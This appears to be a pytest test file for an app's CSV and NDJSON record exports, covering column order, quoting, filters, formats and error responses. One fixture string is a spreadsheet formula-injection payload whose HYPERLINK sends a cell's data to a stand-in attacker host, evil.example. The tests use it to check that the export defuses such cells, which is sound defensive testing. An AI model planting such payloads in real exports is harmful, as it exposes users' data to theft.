"""GET /v1/records as CSV and NDJSON over the real app: every matching record, in the JSON API's
order and with its values, read back with the standard library; quoting, formulas, the format
chosen by `format` or `Accept`, and clear 4xx before anything is streamed."""

import csv
import io
import json
import re
from collections.abc import AsyncIterator, Callable
from contextlib import ExitStack
from typing import Any

import httpx
import pytest
import pytest_asyncio
import respx

from app.auth.keys import Scope
from app.config import Settings
from tests.support.app import serve, wait_for_article
from tests.support.corpus import TESTS
from tests.support.databases import fresh_database, module_settings, postgres_database
from tests.support.keys import bearer, mint
from tests.support.llm import LLM_BASE_URL, llm_reply

FAKE_LLM: dict[str, Any] = {
    "openai_base_url": LLM_BASE_URL,
    "openai_api_key": "sk-test",
    "llm_sdk_retries": 0,
    "relevance_gate": False,
}
SHARED = pytest.mark.asyncio(loop_scope="module")
TRICKY_SUMMARY = 'Talks in Genève, "round two"\nresumed; Türkiye hosted — 停火 holds.'
FORMULA_SUMMARY = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def article(n: int, country: str, date: str, **fields: Any) -> dict[str, Any]:
    """An article and the record the fake model finds in it (`fields` override the record's)."""
    sentence = f"Report {n}: the delegations of {country} met the mediators in the capital."
    record = {
        "kind": "negotiation",
        "status": "ongoing",
        "summary": f"Number {n}: talks on {country}.",
        "parties": [{"name": country, "kind": "state", "country": country}],
        "mediators": [
            {"name": "Qatar", "kind": "state", "country": "Qatar", "role": "host"},
            {"name": "African Union", "kind": "organization", "country": None, "role": "mediator"},
        ],
        "location": {"name": "Doha", "country": "Qatar"},
        "date": date,
        "evidence": [sentence],
        "topics": ["humanitarian access", "prisoners"],
        **fields,
    }
    return {"text": f"{sentence}\n\nOther news followed.", "record": record}


ARTICLES = [
    article(1, "Sudan", "2024-05-20"),
    article(
        2,
        "Sudan",
        "2024-06",
        summary=TRICKY_SUMMARY,
        parties=[
            {"name": 'Forces, "Armées"', "kind": "armed_group", "country": "Sudan"},
            {"name": "Rapid Support Forces", "kind": "armed_group", "country": "Sudan"},
        ],
        topics=["sea, air and land access", "détenus"],
        round=2,
        format="indirect",
    ),
    article(
        3,
        "Yemen",
        "2024-07-02",
        summary=FORMULA_SUMMARY,
        attributed_to="@spokesman",
        programme="+hotline",
        topics=["-withdrawal"],
        kind="prisoner_exchange",
        status="completed",
        count=300,
        count_qualifier="at_least",
    ),
    article(4, "Yemen", "2024-08-01", location=None, mediators=[]),
    article(5, "Ukraine", "2024", background=True),
    article(6, "Sudan", "2024-09-09", end_date="2024-09-30", kind="ceasefire", status="agreed"),
    article(7, "Ukraine", "2024-10-01"),
]


def _answer(body: dict[str, Any]) -> list[dict[str, Any]]:
    prompt = json.dumps(body["messages"])
    return [a["record"] for a in ARTICLES if a["text"].split(":")[0] + ":" in prompt]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def records(
    tmp_path_factory: pytest.TempPathFactory, postgres_ready: str | None
) -> AsyncIterator[httpx.AsyncClient]:
    """One app holding ARTICLES' records, exporting two rows per batch so that every export
    crosses batches; shared by this module's read-only tests."""
    tmp = tmp_path_factory.mktemp("record_exports")
    with ExitStack() as stack:
        url = (
            stack.enter_context(postgres_database("parley_record_exports"))
            if postgres_ready
            else fresh_database(tmp, None)
        )
        llm = stack.enter_context(respx.mock(base_url=LLM_BASE_URL))
        llm.post("/chat/completions").mock(side_effect=llm_reply(_answer))
        settings = module_settings(tmp, url, export_batch_size=2, **FAKE_LLM)
        async with serve(settings) as client:
            for a in ARTICLES:
                posted = await client.post("/v1/articles", json={"text": a["text"]})
                done = await wait_for_article(client, posted.json()["id"])
                assert done["status"] == "done", done["error"]
            yield client


async def _json_items(client: httpx.AsyncClient, **params: Any) -> list[dict[str, Any]]:
    response = await client.get("/v1/records", params={"limit": 500, **params})
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items


async def _csv(client: httpx.AsyncClient, **params: Any) -> list[dict[str, str]]:
    response = await client.get("/v1/records", params={"format": "csv", **params})
    assert response.status_code == 200, response.text
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    return list(reader)


def text(value: Any) -> str:
    """What the README says a cell holds for a JSON value."""
    if value is None:
        written = ""
    elif isinstance(value, bool):
        written = str(value).lower()
    elif isinstance(value, list):
        written = "; ".join(text(v) for v in value)
    else:
        written = str(value)
    return "'" + written if written.startswith(FORMULA_LEADS) else written


def expected_row(item: dict[str, Any]) -> dict[str, str]:
    """A JSON API item as the README's columns describe its CSV row."""
    location = item["location"] or {}
    flat = {
        "parties": [p["name"] for p in item["parties"]],
        "mediators": [m["name"] for m in item["mediators"]],
        "mediator_roles": [m["role"] for m in item["mediators"]],
        "location": location.get("name"),
        "location_country": location.get("country"),
        "evidence": [e["quote"] for e in item["evidence"]],
    }
    plain = ("parties", "mediators", "location", "evidence", "usage")
    row = {key: text(value) for key, value in item.items() if key not in plain}
    return row | {key: text(value) for key, value in flat.items()}


def documented_columns(title: str) -> list[str]:
    """The column names the README lists after `title`, in order."""
    readme = (TESTS.parent / "README.md").read_text(encoding="utf-8")
    paragraph = readme.split(title, 1)[1].split("\n\n", 1)[0]
    return re.findall(r"`([a-z_]+)`", paragraph)


@SHARED
async def test_the_csv_header_is_the_readme_column_list(records: httpx.AsyncClient) -> None:
    response = await records.get("/v1/records", params={"format": "csv"})

    header = next(csv.reader(io.StringIO(response.text, newline="")))
    assert header == documented_columns("**Records CSV columns**")
    assert header[:3] == ["id", "article_id", "event_id"]


@SHARED
@pytest.mark.parametrize(
    "filters",
    [{}, {"country": "Sudan"}, {"mediator": "AU", "since": "2024-07"}, {"q": "delegations"}],
)
async def test_csv_read_back_is_the_json_api_same_rows_order_and_values(
    records: httpx.AsyncClient, filters: dict[str, str]
) -> None:
    items = await _json_items(records, **filters)
    rows = await _csv(records, **filters)

    assert items
    assert [r["id"] for r in rows] == [str(i["id"]) for i in items]
    assert rows == [expected_row(i) for i in items]


@SHARED
async def test_csv_filters_select_what_the_json_api_selects(records: httpx.AsyncClient) -> None:
    everything = await _csv(records)
    sudan = await _csv(records, country="SDN")
    swaps = await _csv(records, kind="prisoner_exchange")

    assert len(everything) == len(ARTICLES)
    assert {r["countries"] for r in sudan} == {"SDN"}
    assert len(sudan) == 3
    assert [r["summary"] for r in swaps] == ["'" + FORMULA_SUMMARY]


@SHARED
async def test_commas_quotes_newlines_and_non_ascii_come_back_exactly(
    records: httpx.AsyncClient,
) -> None:
    (row,) = [r for r in await _csv(records) if r["round"] == "2"]

    assert row["summary"] == TRICKY_SUMMARY
    assert row["parties"] == 'Forces, "Armées"; Rapid Support Forces'
    assert row["topics"] == "sea, air and land access; détenus"
    assert row["mediators"] == "Qatar; African Union"
    assert row["mediator_roles"] == "host; mediator"
    assert row["format"] == "indirect"


@SHARED
async def test_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(
    records: httpx.AsyncClient,
) -> None:
    response = await records.get("/v1/records", params={"format": "csv", "country": "Yemen"})
    (row,) = [r for r in await _csv(records, country="Yemen") if r["count"] == "300"]
    (item,) = await _json_items(records, kind="prisoner_exchange")

    assert row["summary"] == "'" + FORMULA_SUMMARY
    assert (row["attributed_to"], row["programme"], row["topics"]) == (
        "'@spokesman",
        "'+hotline",
        "'-withdrawal",
    )
    assert "\"'=HYPERLINK(" in response.text
    assert item["summary"] == FORMULA_SUMMARY  # the JSON and NDJSON keep the value as stored


@SHARED
async def test_empty_lists_and_nulls_are_empty_cells_booleans_true_false(
    records: httpx.AsyncClient,
) -> None:
    rows = {r["summary"].split(":")[0]: r for r in await _csv(records)}

    assert (rows["Number 4"]["mediators"], rows["Number 4"]["location"]) == ("", "")
    assert rows["Number 4"]["end_date"] == ""
    assert rows["Number 5"]["background"] == "true"
    assert rows["Number 6"]["background"] == "false"
    assert rows["Number 6"]["end_date"] == "2024-09-30"


@SHARED
@pytest.mark.parametrize("filters", [{}, {"country": "Ukraine"}, {"status": "completed"}])
async def test_ndjson_lines_are_the_json_api_items(
    records: httpx.AsyncClient, filters: dict[str, str]
) -> None:
    items = await _json_items(records, **filters)

    response = await records.get("/v1/records", params={"format": "ndjson", **filters})

    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in response.text.splitlines()] == items


@SHARED
async def test_an_export_with_no_match_is_a_header_or_nothing(records: httpx.AsyncClient) -> None:
    none = {"country": "Norway"}
    as_csv = await records.get("/v1/records", params={"format": "csv", **none})
    as_ndjson = await records.get("/v1/records", params={"format": "ndjson", **none})

    assert as_csv.text.splitlines() == [",".join(f'"{c}"' for c in _header())]
    assert as_ndjson.content == b""


def _header() -> list[str]:
    return documented_columns("**Records CSV columns**")


@SHARED
async def test_exports_come_as_downloads_that_vary_with_accept(records: httpx.AsyncClient) -> None:
    as_csv = await records.get("/v1/records", params={"format": "csv"})
    as_ndjson = await records.get("/v1/records", params={"format": "ndjson"})
    as_json = await records.get("/v1/records")

    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert as_csv.headers["content-disposition"] == 'attachment; filename="records.csv"'
    assert as_ndjson.headers["content-disposition"] == 'attachment; filename="records.ndjson"'
    assert (
        as_csv.headers["vary"] == as_ndjson.headers["vary"] == as_json.headers["vary"] == "Accept"
    )


@SHARED
@pytest.mark.parametrize(
    ("params", "accept", "media_type"),
    [
        ({}, "text/csv", "text/csv"),
        ({}, "application/x-ndjson", "application/x-ndjson"),
        ({}, "text/html,*/*;q=0.8", "application/json"),
        ({"format": "ndjson"}, "text/csv", "application/x-ndjson"),
        ({"format": "json"}, "text/csv", "application/json"),
        ({"format": "csv"}, "application/json", "text/csv"),
    ],
)
async def test_the_format_parameter_wins_over_the_accept_header(
    records: httpx.AsyncClient, params: dict[str, str], accept: str, media_type: str
) -> None:
    response = await records.get("/v1/records", params=params, headers={"Accept": accept})

    assert response.status_code == 200, response.text
    assert response.headers["content-type"].split(";")[0] == media_type


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"format": "xml"}, "'json', 'csv' or 'ndjson'"),
        ({"format": "csv", "limit": 5}, "limit page JSON answers"),
        ({"format": "ndjson", "cursor": "eyJhZnRlciI6IDV9"}, "cursor page JSON answers"),
        ({"format": "csv", "limit": 5, "cursor": "x"}, "limit and cursor"),
        ({"format": "csv", "countri": "Sudan"}, "unknown query parameter(s): countri"),
        ({"format": "csv", "country": "Atlantis"}, "unknown country"),
        ({"format": "ndjson", "q": "!!!"}, "no words"),
        ({"format": "csv", "since": "June"}, "invalid date"),
    ],
)
async def test_a_bad_export_request_is_a_422_before_anything_streams(
    client: httpx.AsyncClient, params: dict[str, Any], message: str
) -> None:
    response = await client.get("/v1/records", params=params)

    assert response.status_code == 422
    assert response.headers["content-type"] == "application/json"
    assert message in response.json()["error"]["message"]


async def test_a_read_key_is_enough_to_export(
    make_settings: Callable[..., Settings], database_url: str
) -> None:
    key = bearer(mint(database_url, Scope.READ))
    async with serve(make_settings(require_auth=True)) as client:
        keyless = await client.get("/v1/records", params={"format": "csv"})
        as_csv = await client.get("/v1/records", params={"format": "csv"}, headers=key)
        as_ndjson = await client.get(
            "/v1/records", headers=key | {"Accept": "application/x-ndjson"}
        )

    assert keyless.status_code == 401
    assert (as_csv.status_code, as_ndjson.status_code) == (200, 200)
    assert as_csv.text.startswith('"id","article_id"')
